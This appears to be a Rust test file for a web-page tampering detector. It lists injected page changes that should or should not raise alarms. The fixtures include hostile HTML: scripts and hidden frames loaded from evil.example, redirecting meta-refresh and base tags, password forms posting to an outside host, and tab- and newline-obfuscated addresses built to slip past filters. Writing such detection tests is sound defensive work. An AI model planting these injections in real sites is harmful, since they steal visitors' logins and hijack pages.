//! Scripts, frames, styles, form targets, base, refresh and addresses from somewhere they never came from.

use crate::common::{Watch, head, login, swap, swap_all, tail, top};
use crate::front_page;
use crate::table::Say::{Alarm, NoAlarm, Normal, Suspect};
use crate::table::hold;
use frontwatch_core::watch::WatchKind;

#[test]
fn what_a_stranger_serves_alarms() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            (
                "a script at the end",
                tail("<script src=\"https://evil.example/x.js\"></script>"),
                Alarm("source.script"),
            ),
            (
                "a script in the head",
                head("<script src=\"https://evil.example/x.js\"></script>"),
                Alarm("source.script"),
            ),
            (
                "a script in a headline",
                swap("<h2>", "<h2><script src=https://evil.example/x.js></script>"),
                Alarm("source.script"),
            ),
            (
                "a script from a bare address",
                tail("<script src=\"//203.0.113.9/x.js\"></script>"),
                Alarm("source.script"),
            ),
            (
                "a script from an open host",
                tail("<script src=\"https://x.github.io/x.js\"></script>"),
                Alarm("source.script"),
            ),
            (
                "a script from a host that looks known",
                tail("<script src=\"https://www.google-analytics.com.evil.example/a.js\"></script>"),
                Alarm("source.script"),
            ),
            (
                "a hidden frame",
                tail("<iframe src=\"http://evil.example/\" width=1 height=1></iframe>"),
                Alarm("source.frame"),
            ),
            (
                "an object",
                tail("<object data=\"https://evil.example/x.swf\" width=1 height=1></object>"),
                Alarm("source.object"),
            ),
            ("a base", head("<base href=\"https://evil.example/\">"), Alarm("source.base")),
            (
                "a refresh to elsewhere",
                head("<meta http-equiv=refresh content=\"2;URL='http://evil.example/'\">"),
                Alarm("source.refresh"),
            ),
            (
                "a refresh where no scripts run",
                head("<noscript><meta http-equiv=refresh content=\"0;url=//evil.example\"></noscript>"),
                Alarm("source.refresh"),
            ),
            (
                "a refresh to another page of its own",
                head("<meta http-equiv=refresh content=\"0;url=/uploads/a.html\">"),
                Alarm("source.refresh"),
            ),
            (
                "a style sheet in the page",
                tail("<link rel=stylesheet href=//evil.example/t.css>"),
                Alarm("source.style"),
            ),
            (
                "a style sheet that takes one in",
                tail("<style>@import url('//evil.example/t.css');</style>"),
                Alarm("source.style"),
            ),
            ("an icon", tail("<link rel=icon href=//evil.example/i.png>"), Alarm("source.icon")),
            (
                "a page for small screens",
                head("<link rel=amphtml href=https://evil.example/a>"),
                Alarm("source.elsewhere"),
            ),
            (
                "the address that search engines keep",
                swap("href=\"https://outlet.example/\"", "href=\"https://evil.example/\""),
                Alarm("source.canonical"),
            ),
            (
                "a form that asks for a password",
                tail("<form action=https://evil.example/c><input name=u><input type=password name=p></form>"),
                Alarm("source.form"),
            ),
        ],
    );
}

#[test]
fn what_the_outlet_and_known_companies_serve_does_not() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            ("a known company's script", tail("<script src=\"https://cdn.taboola.com/loader.js\"></script>"), Normal),
            ("new analytics", head("<script async src=\"https://mc.yandex.ru/metrika/tag.js\"></script>"), Normal),
            (
                "a chat window of a known company",
                tail("<script async src=\"https://embed.tawk.to/5f/default\"></script>"),
                Normal,
            ),
            (
                "an advertising frame",
                tail("<iframe src=\"https://tpc.googlesyndication.com/a\" width=300 height=250></iframe>"),
                Normal,
            ),
            (
                "a video among the stories",
                swap(
                    "</article>",
                    "<iframe width=560 height=315 src=\"https://www.youtube.com/embed/x\"></iframe></article>",
                ),
                Normal,
            ),
            (
                "a chart of a known company",
                swap("</article>", "<iframe src=\"https://datawrapper.de/x\" width=600 height=400></iframe></article>"),
                Normal,
            ),
            ("a script of its own", tail("<script src=\"/js/election.js\"></script>"), Normal),
            (
                "a script of its own other host",
                tail("<script src=\"https://static.outlet.example/e.js\"></script>"),
                Normal,
            ),
            ("a refresh of itself", head("<meta http-equiv=refresh content=300>"), Normal),
            ("another style sheet version", swap("/css/site.css?v=9", "/css/site.css?v=abcdef"), Normal),
            (
                "fonts of a known company",
                head("<link rel=stylesheet href=\"https://fonts.googleapis.com/css?family=Lora\">"),
                Normal,
            ),
            (
                "hints of what may be loaded",
                head(
                    "<link rel=preconnect href=\"https://cdn.player.example\"><link rel=preload as=font href=\"https://fonts.maker.example/a.woff2\">",
                ),
                Normal,
            ),
            (
                "a form of a known mailing company",
                swap(
                    "</main>",
                    "<form action=\"https://outlet.us1.list-manage.com/subscribe/post\" method=post><input type=email name=EMAIL></form></main>",
                ),
                Normal,
            ),
            ("its own page for small screens", head("<link rel=amphtml href=\"https://amp.outlet.example/\">"), Normal),
            ("an icon of its own", head("<link rel=icon href=\"/img/spring.png\">"), Normal),
            (
                "a map of a stranger, seen among the stories",
                swap(
                    "</article>",
                    "</article><div class=map><iframe src=\"https://maps.stranger.example/m\" width=600 height=400></iframe></div>",
                ),
                Suspect("source.frame"),
            ),
            ("a font of a stranger", head("<link rel=stylesheet href=\"https://fonts.maker.example/a.css\">"), NoAlarm),
            (
                "a newsletter's form of a stranger",
                swap(
                    "</main>",
                    "<form action=\"https://letters.stranger.example/subscribe\" method=post><input type=email name=e></form></main>",
                ),
                NoAlarm,
            ),
            ("a muted video of its own", top("<video src=/v/1.mp4 autoplay muted></video>"), NoAlarm),
        ],
    );
}

#[test]
fn a_login_page_trusts_no_stranger() {
    let watch = Watch::learned(WatchKind::Admin, login, 4);
    hold(
        &watch,
        &login(4),
        vec![
            (
                "its form elsewhere",
                swap("action=\"/admin/login\"", "action=\"http://evil.example/c.php\""),
                Alarm("source.form"),
            ),
            ("a new script", tail("<script src=\"https://evil.example/k.js\"></script>"), Alarm("source.script")),
            ("a script of its own", tail("<script src=\"/admin/js/hints.js\"></script>"), Normal),
        ],
    );
}

#[test]
fn tabs_and_line_ends_within_an_address_hide_nobody() {
    let (watch, page) = front_page();
    hold(
        &watch,
        &page,
        vec![
            ("a script", head("<script src=\"/&#9;/evil.example/x.js\"></script>"), Alarm("source.script")),
            ("a scheme", tail("<script src=\"ht&#9;tps://evil.example/x.js\"></script>"), Alarm("source.script")),
            (
                "a script over two lines",
                tail("<script src=\"/\n/evil.example/x.js\"></script>"),
                Alarm("source.script"),
            ),
            ("a base", head("<base href=\"ht\r\ntps://evil.example/\">"), Alarm("source.base")),
            (
                "a refresh",
                head("<meta http-equiv=refresh content=\"0;url=/&#9;/evil.example/\">"),
                Alarm("source.refresh"),
            ),
            ("a form", swap("action=\"/search\"", "action=\"/&#10;/evil.example/s\""), Alarm("source.form")),
            ("all links", swap_all("href=\"/news/", "href=\"ht&#9;tps://evil.example/news/"), Alarm("link.hijacked")),
            ("the own script over two lines", swap("src=\"/js/site.js", "src=\"\n/js/\nsite.js"), Normal),
        ],
    );
}
